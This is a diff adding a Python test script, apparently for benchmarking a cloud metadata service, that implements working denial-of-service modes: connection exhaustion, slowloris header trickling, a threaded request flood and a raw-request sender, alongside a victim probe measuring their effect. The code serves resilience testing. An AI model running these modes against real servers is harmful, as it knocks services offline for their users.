@@ -1,0 +1,233 @@
+"""A hostile guest and its victim, for tests and benches: run inside an instance's namespace.
+
+A standalone script (stdlib only, never imports ovnmeta) so that it starts fast under
+/usr/bin/python3 inside `ip netns exec`; `argv()` builds its command line. Every mode is
+bounded in time, closes every socket it opened and prints one JSON document on stdout:
+
+    hold HOST N SECONDS             N connections, each sends a request head without its
+                                    final CRLF, then nothing (connection exhaustion)
+    slowloris HOST N SECONDS GAP    the same, but one more header line every GAP seconds
+    flood HOST THREADS SECONDS      back-to-back GETs, a new connection each
+    probe HOST SECONDS GAP          the victim: GET meta_data.json every GAP seconds with a
+                                    10 s bound; one record per request
+    raw HOST TIMEOUT                JSON list of {"name", "data"} on stdin (latin-1 text):
+                                    send each on its own connection, return what came back
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import resource
+import selectors
+import socket
+import sys
+import threading
+import time
+from collections import Counter
+from collections.abc import Sequence
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+from typing import Any
+
+SYSTEM_PYTHON = "/usr/bin/python3"
+META_PATH = "/openstack/latest/meta_data.json"
+HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n"  # no final CRLF: the server waits for more
+BOUND_S = 10.0  # the victim's patience for one request (curl -m 10)
+
+
+def argv(*args: str) -> list[str]:
+    """The command line that runs this script (prefix it with `ip netns exec NS`)."""
+    return [SYSTEM_PYTHON, "-I", str(Path(__file__).resolve()), *args]
+
+
+def _raise_nofile(n: int) -> None:
+    # Thousands of sockets: the default soft limit is 1024 (root may lift the hard one).
+    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    want = n + 256
+    if hard != resource.RLIM_INFINITY and hard < want:
+        hard = want
+    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
+
+
+def _open(host: str, n: int, connect_s: float = 5.0) -> tuple[list[socket.socket], int]:
+    """n non-blocking connects; returns the established sockets and how many failed."""
+    sel = selectors.DefaultSelector()
+    pending: list[socket.socket] = []
+    for _ in range(n):
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setblocking(False)
+        s.connect_ex((host, 80))
+        sel.register(s, selectors.EVENT_WRITE)
+        pending.append(s)
+    up: list[socket.socket] = []
+    failed = 0
+    deadline = time.monotonic() + connect_s
+    while pending and time.monotonic() < deadline:
+        for key, _ in sel.select(timeout=0.2):
+            s = key.fileobj
+            assert isinstance(s, socket.socket)
+            sel.unregister(s)
+            pending.remove(s)
+            if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
+                up.append(s)
+            else:
+                failed += 1
+                s.close()
+    for s in pending:  # a SYN never answered: the backlog is full
+        sel.unregister(s)
+        s.close()
+    sel.close()
+    return up, failed + len(pending)
+
+
+def _hold(host: str, n: int, seconds: float, gap: float | None) -> dict[str, Any]:
+    """Open n connections, send a request head, keep them (trickling if gap) for seconds."""
+    _raise_nofile(n)
+    start = time.monotonic()
+    socks, failed = _open(host, n)
+    sel = selectors.DefaultSelector()
+    answered = Counter()  # what the server sent before closing (408, 429, ...)
+    closed_at: list[float] = []
+    try:
+        for s in socks:
+            try:
+                s.send(HEAD)
+            except OSError:
+                continue
+            sel.register(s, selectors.EVENT_READ)
+        established = len(sel.get_map())
+        end = start + seconds
+        next_trickle = time.monotonic() + (gap or seconds)
+        while time.monotonic() < end and sel.get_map():
+            for key, _ in sel.select(timeout=0.2):
+                s = key.fileobj
+                assert isinstance(s, socket.socket)
+                try:
+                    data = s.recv(4096)
+                except OSError:
+                    data = b""
+                if data[:5] == b"HTTP/":
+                    answered[data.split(b" ", 2)[1].decode(errors="replace")] += 1
+                sel.unregister(s)
+                closed_at.append(time.monotonic() - start)
+            if gap and time.monotonic() >= next_trickle:
+                next_trickle += gap
+                for key in list(sel.get_map().values()):
+                    with contextlib.suppress(OSError):  # a reset: the read side notices
+                        key.fileobj.send(b"X-a: b\r\n")  # type: ignore[union-attr]
+        return {
+            "opened": n,
+            "established": established,
+            "connect_failed": failed,
+            "closed_by_server": len(closed_at),
+            "first_close_s": round(min(closed_at), 2) if closed_at else None,
+            "answered": dict(answered),
+            "still_open": len(sel.get_map()),
+        }
+    finally:
+        sel.close()
+        for s in socks:
+            s.close()
+
+
+def _get(host: str, path: str, timeout: float = BOUND_S) -> tuple[int, bytes]:
+    """One GET on a new connection, bounded in total time; status 0 for no answer."""
+    deadline = time.monotonic() + timeout
+    try:
+        with socket.create_connection((host, 80), timeout=timeout) as s:
+            s.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
+            chunks = []
+            while (left := deadline - time.monotonic()) > 0:
+                s.settimeout(left)
+                chunk = s.recv(65536)
+                if not chunk:
+                    break
+                chunks.append(chunk)
+    except OSError:
+        return 0, b""
+    raw = b"".join(chunks)
+    head, _, body = raw.partition(b"\r\n\r\n")
+    try:
+        return int(head.split(b" ", 2)[1]), body
+    except (IndexError, ValueError):
+        return 0, raw
+
+
+def _flood(host: str, threads: int, seconds: float) -> dict[str, Any]:
+    counts: Counter[int] = Counter()
+    lock = threading.Lock()
+    end = time.monotonic() + seconds
+
+    def run() -> None:
+        while time.monotonic() < end:
+            status, _ = _get(host, META_PATH, timeout=5)
+            with lock:
+                counts[status] += 1
+
+    workers = [threading.Thread(target=run) for _ in range(threads)]
+    for w in workers:
+        w.start()
+    for w in workers:
+        w.join()
+    return {"requests": sum(counts.values()), "status": {str(k): v for k, v in counts.items()}}
+
+
+def _probe(host: str, seconds: float, gap: float) -> list[dict[str, Any]]:
+    records = []
+    end = time.monotonic() + seconds
+    while time.monotonic() < end:
+        t0 = time.monotonic()
+        status, body = _get(host, META_PATH)
+        try:
+            uuid = json.loads(body)["uuid"] if status == 200 else None
+        except (ValueError, KeyError):
+            uuid = None
+        records.append({"status": status, "uuid": uuid, "s": round(time.monotonic() - t0, 4)})
+        time.sleep(gap)
+    return records
+
+
+def _raw(host: str, timeout: float, cases: Sequence[dict[str, str]]) -> list[dict[str, str]]:
+    def one(case: dict[str, str]) -> dict[str, str]:
+        got = []
+        deadline = time.monotonic() + timeout
+        try:
+            with socket.create_connection((host, 80), timeout=timeout) as s:
+                s.sendall(case["data"].encode("latin-1"))
+                while (left := deadline - time.monotonic()) > 0:
+                    s.settimeout(left)
+                    chunk = s.recv(65536)
+                    if not chunk:
+                        break
+                    got.append(chunk)
+        except OSError:
+            pass  # a reset or the deadline: keep what came back
+        return {"name": case["name"], "response": b"".join(got).decode("latin-1")}
+
+    with ThreadPoolExecutor(8) as pool:
+        return list(pool.map(one, cases))
+
+
+def main(args: Sequence[str]) -> int:
+    mode, host, *rest = args
+    result: Any
+    if mode == "hold":
+        result = _hold(host, int(rest[0]), float(rest[1]), None)
+    elif mode == "slowloris":
+        result = _hold(host, int(rest[0]), float(rest[1]), float(rest[2]))
+    elif mode == "flood":
+        result = _flood(host, int(rest[0]), float(rest[1]))
+    elif mode == "probe":
+        result = _probe(host, float(rest[0]), float(rest[1]))
+    elif mode == "raw":
+        result = _raw(host, float(rest[0]), json.load(sys.stdin))
+    else:
+        print(f"unknown mode {mode!r}", file=sys.stderr)
+        return 2
+    json.dump(result, sys.stdout)
+    return 0
+
+
+if __name__ == "__main__":
+    raise SystemExit(main(sys.argv[1:]))
